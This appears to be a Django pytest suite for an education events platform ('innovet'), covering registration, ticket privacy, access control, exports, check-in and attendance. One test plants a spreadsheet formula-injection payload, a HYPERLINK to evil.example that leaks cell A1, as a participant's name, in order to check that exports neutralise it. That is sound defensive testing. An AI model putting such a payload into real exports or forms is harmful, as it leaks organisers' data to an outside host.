import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.db.models import F
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format

from innovet.events import services
from innovet.events.models import Approval, Booking, BookingStatus, Registration, SchoolPolicy
from innovet.organisations.models import OrganisationKind, Role
from innovet.participation.models import Participation

from .conftest import session_named

pytestmark = pytest.mark.django_db


def test_public_page_shows_programme_map_and_ics(client, make_event):
    event = make_event()
    response = client.get(event.get_absolute_url())
    html = response.content.decode()
    assert response.status_code == 200
    assert "Cobots in de klas" in html and "Warmtepompen" in html
    assert 'class="map"' in html and "js/map.js" in html
    heat = session_named(event, "Warmtepompen")
    ics = client.get(reverse("events:session_ics", args=[heat.pk]))
    assert ics["Content-Type"].startswith("text/calendar") and b"SUMMARY:Warmtepompen" in ics.content


def test_draft_is_hidden_from_others(client, make_event, other_org_user):
    event = make_event(publish=False)
    assert client.get(event.get_absolute_url()).status_code == 404
    client.force_login(other_org_user)
    assert client.get(event.get_absolute_url()).status_code == 404


def test_feeds_per_organiser_and_province(client, make_event, rtc):
    make_event()
    make_event(title="Concept", publish=False)
    body = client.get(reverse("events:organiser_feed", args=[rtc.slug])).content.decode()
    assert body.count("BEGIN:VEVENT") == 3 and "Concept" not in body
    body = client.get(reverse("events:province_feed", args=["oost-vlaanderen"])).content.decode()
    assert body.count("BEGIN:VEVENT") == 3
    assert client.get(reverse("events:province_feed", args=["limburg"])).content.decode().count("BEGIN:VEVENT") == 0


def test_published_event_is_found_with_catalogue_facets(client, make_event):
    make_event(title="Kick-off Gent")
    response = client.get(reverse("events:event_list"), {"q": "warmtepompen", "soort": "netwerkmoment"})
    assert "Kick-off Gent" in response.content.decode()
    response = client.get(reverse("events:event_list"), {"provincie": "limburg"})
    assert "Kick-off Gent" not in response.content.decode()


def test_teacher_registers_through_the_page(client, make_event, teacher, django_capture_on_commit_callbacks):
    event = make_event()
    heat = session_named(event, "Warmtepompen")
    client.force_login(teacher)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("events:register", args=[event.pk]), {f"slot_{heat.slot_id}": heat.pk}, follow=False
        )
    registration = Registration.objects.get(person=teacher)
    assert response.url == registration.get_absolute_url()
    ticket = client.get(response.url).content.decode()
    assert registration.ticket_code in ticket and "Warmtepompen" in ticket
    qr = client.get(reverse("events:ticket_qr", args=[registration.ticket_code]))
    assert qr["Content-Type"] == "image/svg+xml" and b"<svg" in qr.content
    assert len(mail.outbox) == 1


def test_ticket_is_private(client, make_event, teacher, make_teacher, other_org_user):
    event = make_event()
    registration = services.register(teacher, event, teacher, [])
    for intruder in (make_teacher(), other_org_user):
        client.force_login(intruder)
        assert client.get(reverse("events:ticket", args=[registration.ticket_code])).status_code == 404
        assert client.post(reverse("events:ticket_cancel", args=[registration.ticket_code])).status_code == 404
    assert Registration.objects.get(pk=registration.pk).cancelled_at is None


@pytest.mark.parametrize("name", ["participants", "checkin", "attendance", "builder", "event_edit"])
def test_organiser_pages_refuse_another_organisation(client, make_event, other_org_user, teacher, name):
    event = make_event()
    client.force_login(other_org_user)
    assert client.get(reverse(f"events:{name}", args=[event.pk])).status_code == 403
    client.force_login(teacher)
    assert client.get(reverse(f"events:{name}", args=[event.pk])).status_code == 403


def test_other_organiser_cannot_export_or_change(client, make_event, other_org_user, teacher):
    event = make_event()
    services.register(teacher, event, teacher, [])
    client.force_login(other_org_user)
    assert client.get(reverse("events:participants_export", args=[event.pk, "csv"])).status_code == 403
    assert (
        client.post(
            reverse("events:builder_action", args=[event.pk]), {"action": "add_day", "date": "2027-03-03"}
        ).status_code
        == 403
    )
    assert client.post(reverse("events:checkin", args=[event.pk]), {"code": "x"}).status_code == 403
    assert event.days.count() == 1


def test_export_has_only_what_is_needed(client, make_event, organiser, teacher):
    event = make_event(ask_dietary=False)
    services.register(teacher, event, teacher, [session_named(event, "Warmtepompen").pk], dietary_needs="vegan")
    client.force_login(organiser)
    body = client.get(reverse("events:participants_export", args=[event.pk, "csv"])).content.decode("utf-8-sig")
    header = body.splitlines()[0]
    assert header == "Naam;School;Sessies;Wachtlijst;Vervanging nodig;Ingecheckt"
    assert "Lien Peeters;VTI Testschool Gent;Welkom en inleiding / Warmtepompen;;ja;nee" in body
    assert "vegan" not in body and teacher.email not in body
    xlsx = client.get(reverse("events:participants_export", args=[event.pk, "xlsx"]))
    assert xlsx.content[:2] == b"PK"


def test_export_neutralises_formulas(client, make_event, organiser, make_teacher):
    """A participant who calls themselves '=HYPERLINK(...)' must not become a formula in the organiser's sheet."""
    from openpyxl import load_workbook

    event = make_event()
    attacker = make_teacher(first_name='=HYPERLINK("https://evil.example/?"&A1', last_name='"x")')
    services.register(attacker, event, attacker, [session_named(event, "Warmtepompen").pk])
    client.force_login(organiser)
    body = client.get(reverse("events:participants_export", args=[event.pk, "csv"])).content.decode("utf-8-sig")
    row = next(line for line in body.splitlines() if "HYPERLINK" in line)
    assert row.startswith("\"'=HYPERLINK") or row.startswith("'=HYPERLINK")
    xlsx = client.get(reverse("events:participants_export", args=[event.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_export_includes_needs_when_asked(client, make_event, organiser, teacher):
    event = make_event(ask_dietary=True)
    services.register(teacher, event, teacher, [], dietary_needs="vegan")
    client.force_login(organiser)
    body = client.get(reverse("events:participants_export", args=[event.pk, "csv"])).content.decode("utf-8-sig")
    assert body.splitlines()[0].endswith(";Voedingswensen") and "vegan" in body


def test_checkin_page_by_code_and_name(client, make_event, organiser, teacher):
    event = make_event()
    registration = services.register(teacher, event, teacher, [])
    client.force_login(organiser)
    found = client.get(reverse("events:checkin", args=[event.pk]), {"q": "peeters"}).content.decode()
    assert "Lien Peeters" in found
    done = client.post(reverse("events:checkin", args=[event.pk]), {"code": registration.ticket_code}).content.decode()
    assert "Lien Peeters is ingecheckt." in done
    again = client.post(reverse("events:checkin", args=[event.pk]), {"code": registration.ticket_code}).content.decode()
    assert "was al ingecheckt" in again


def test_attendance_page_writes_the_ledger(client, make_event, organiser, teacher):
    event = make_event()
    registration = services.register(teacher, event, teacher, [session_named(event, "Warmtepompen").pk])
    client.force_login(organiser)
    data = {}
    for b in registration.bookings.all():
        data[f"attended_{b.pk}"] = "1"
        data[f"role_{b.pk}"] = "presentator" if b.session.title == "Warmtepompen" else "bezoeker"
    client.post(reverse("events:attendance", args=[event.pk]), data)
    assert Participation.objects.filter(person=teacher).count() == 2
    history = client.get(reverse("participation:mine"))
    assert history.status_code == 200
    client.force_login(teacher)
    assert "Kick-off Oost-Vlaanderen: Warmtepompen" in client.get(reverse("participation:mine")).content.decode()


def test_attendance_page_posts_back_what_it_renders_when_ids_pass_999(client, make_event, organiser, teacher):
    # nl-BE prints 1284 as '1.284': the page must name its fields with the id as it is.
    event = make_event()
    registration = services.register(teacher, event, teacher, [session_named(event, "Warmtepompen").pk])
    Booking.objects.filter(registration=registration).update(id=F("id") + 5000)
    client.force_login(organiser)
    url = reverse("events:attendance", args=[event.pk])
    names = re.findall(r'name="(attended_[^"]+)"', client.get(url).content.decode())
    assert sorted(names) == sorted(f"attended_{pk}" for pk in registration.bookings.values_list("pk", flat=True))
    response = client.post(url, dict.fromkeys(names, "1"), follow=True)
    assert "2 deelnames geregistreerd" in response.content.decode()
    assert Participation.objects.filter(person=teacher).count() == 2


def test_director_sees_school_page_others_do_not(
    client, make_event, organiser, teacher, director, school, make_org, make_user
):
    event = make_event()
    registration = services.register(teacher, event, teacher, [])
    services.confirm_attendance(organiser, event, {b.pk: (True, "bezoeker") for b in registration.bookings.all()})
    client.force_login(director)
    page = client.get(reverse("participation:school", args=[school.slug])).content.decode()
    assert "Lien" in page and "Peeters" in page
    client.force_login(teacher)
    assert client.get(reverse("participation:school", args=[school.slug])).status_code == 403
    other = make_user(org=make_org("Andere school", OrganisationKind.SCHOOL, "2000"), role=Role.DIRECTOR)
    client.force_login(other)
    assert client.get(reverse("participation:school", args=[school.slug])).status_code == 403


def test_approval_page_for_director_only(client, make_event, teacher, director, school, make_org, make_user):
    SchoolPolicy.objects.create(school=school, approval_for_school_hours=True)
    event = make_event()
    registration = services.register(teacher, event, teacher, [session_named(event, "Warmtepompen").pk])
    client.force_login(teacher)
    assert client.get(reverse("events:approvals")).status_code == 403
    assert (
        client.post(reverse("events:approval_decide", args=[registration.pk]), {"decision": "goedkeuren"}).status_code
        == 403
    )
    other = make_user(org=make_org("Andere school", OrganisationKind.SCHOOL, "2000"), role=Role.DIRECTOR)
    client.force_login(other)
    assert (
        client.post(reverse("events:approval_decide", args=[registration.pk]), {"decision": "goedkeuren"}).status_code
        == 403
    )
    client.force_login(director)
    assert "Lien Peeters" in client.get(reverse("events:approvals")).content.decode()
    client.post(reverse("events:approval_decide", args=[registration.pk]), {"decision": "goedkeuren"})
    assert Registration.objects.get(pk=registration.pk).approval == Approval.APPROVED


def test_builder_half_day_copy_and_repeat(client, make_event, organiser):
    event = make_event(publish=False)
    client.force_login(organiser)
    url = reverse("events:builder_action", args=[event.pk])
    client.post(url, {"action": "half_day", "date": "2027-03-17", "part": "namiddag"})
    day = event.days.get(date="2027-03-17")
    assert [str(s.starts)[:5] for s in day.slots.all()] == ["13:00", "13:45", "15:00", "16:00"]
    heat = session_named(event, "Warmtepompen")
    round1 = day.slots.get(starts="13:45")
    client.post(url, {"action": "repeat_session", "session": heat.pk, "slot": round1.pk})
    assert round1.sessions.filter(title="Warmtepompen").exists()
    client.post(url, {"action": "copy_slot", "slot": round1.pk, "day": day.pk, "starts": "16:30"})
    assert day.slots.get(starts="16:30").sessions.filter(title="Warmtepompen").exists()
    client.post(
        url,
        {
            "action": "add_session",
            "slot": round1.pk,
            f"s{round1.pk}-title": "Zonnepanelen",
            f"s{round1.pk}-capacity": "20",
        },
    )
    assert round1.sessions.get(title="Zonnepanelen").capacity == 20
    page = client.get(reverse("events:builder", args=[event.pk])).content.decode()
    assert "Woensdagnamiddag" in page  # 17 March 2027 is a Wednesday: advice with its reason
    # The form under the last block says what it does (it stood there without a heading).
    assert '<legend class="h6">Blok toevoegen op woensdag 17 maart</legend>' in page


def test_query_counts_are_capped(client, make_event, make_teacher, organiser, django_assert_max_num_queries):
    event = make_event(capacity=50)
    heat = session_named(event, "Warmtepompen")
    for _ in range(15):
        t = make_teacher()
        services.register(t, event, t, [heat.pk])
    for i in range(5):
        make_event(title=f"Kick-off {i}")
    client.force_login(organiser)
    with django_assert_max_num_queries(25):
        assert client.get(reverse("events:participants", args=[event.pk])).status_code == 200
    with django_assert_max_num_queries(25):
        assert client.get(reverse("events:organiser_list")).status_code == 200
    with django_assert_max_num_queries(30):
        assert client.get(reverse("events:event_list")).status_code == 200
    with django_assert_max_num_queries(30):
        assert client.get(event.get_absolute_url()).status_code == 200
    with django_assert_max_num_queries(25):
        assert client.get(reverse("events:attendance", args=[event.pk])).status_code == 200
    with django_assert_max_num_queries(20):
        assert client.get(reverse("events:participants_export", args=[event.pk, "csv"])).status_code == 200
    with django_assert_max_num_queries(30):
        assert client.get(reverse("events:builder", args=[event.pk])).status_code == 200
    with django_assert_max_num_queries(25):
        assert client.get(reverse("events:checkin", args=[event.pk]), {"q": "naam"}).status_code == 200
    assert event.registrations.count() == 15
    assert heat.bookings.filter(status=BookingStatus.CONFIRMED).count() == 15


def test_catalogue_search_shows_matching_events(client, make_event):
    make_event(title="Kick-off Gent")
    response = client.get(reverse("catalogue:search"), {"q": "warmtepompen"})
    page = response.content.decode()
    # A result among the results (the catalogue's own card list and total), not a box beside them.
    assert [getattr(i, "result_kind", "") for i in response.context["items"]] == ["events"]
    assert response.context["total"] == 1 and "Kick-off Gent" in page
    page = client.get(reverse("catalogue:search"), {"q": "warmtepompen", "provincie": "limburg"}).content.decode()
    assert "Kick-off Gent" not in page


def test_offer_page_registers_through_innovet(client, make_event, organiser, rtc, other_org_user):
    from django.core.exceptions import ValidationError

    from innovet.catalogue.models import Offer, Status
    from innovet.taxonomy.models import Term

    offer = Offer.objects.create(
        title="Cobots voor leerkrachten",
        summary="Drie namiddagen",
        description="x",
        kind=Term.objects.of("aanbodsoort").get(code="workshop"),
        status=Status.PUBLISHED,
    )
    offer.providers.add(rtc)
    event = make_event(title="Cobots – sessie 1")
    services.update_event(organiser, event, {"offer": offer})
    page = client.get(offer.get_absolute_url()).content.decode()
    assert "Inschrijven via InnoVET" in page and event.get_absolute_url() in page
    # Only an offer of one's own organisation can be linked.
    foreign = Offer.objects.create(title="Ander", summary="x", description="x", kind=offer.kind)
    with pytest.raises(ValidationError, match="aanbieder"):
        services.update_event(organiser, event, {"offer": foreign})
    event.refresh_from_db()
    assert event.offer == offer


def test_new_event_form_preselects_the_only_organiser(client, organiser, rtc):
    # An RTC staff member organises for one RTC: the form starts on it instead of '---------'.
    client.force_login(organiser)
    html = client.get(reverse("events:event_create")).content.decode()
    assert re.search(rf'<option value="{rtc.pk}" selected>', html)


def test_past_event_shows_no_registration_form_and_is_marked_in_the_list(client, make_event, teacher):
    # The demo's 11 November kick-off still offered the form on 30 November; 'Inschrijven' then only said
    # 'al voorbij'. Now the page says so at once, and the list marks the event.
    past = make_event(title="Kick-off van vorige week", day=timezone.localdate() - timedelta(days=7))
    coming = make_event(title="Kick-off volgende week")
    client.force_login(teacher)
    html = client.get(past.get_absolute_url()).content.decode()
    assert "al begonnen of voorbij" in html
    assert reverse("events:register", args=[past.pk]) not in html
    assert reverse("events:register", args=[coming.pk]) in client.get(coming.get_absolute_url()).content.decode()

    listing = client.get(reverse("events:event_list")).content.decode()
    assert listing.count(">voorbij</span>") == 1
    assert listing.index(">voorbij</span>") > listing.index("Kick-off van vorige week")


def test_my_registrations_say_when(client, make_event, teacher, django_assert_max_num_queries):
    event = make_event()
    services.register(teacher, event, teacher, [session_named(event, "Warmtepompen").pk])
    day = event.days.get().date
    client.force_login(teacher)
    with django_assert_max_num_queries(12):
        html = client.get(reverse("events:my_events")).content.decode()
    assert date_format(day, "l j F Y") in html
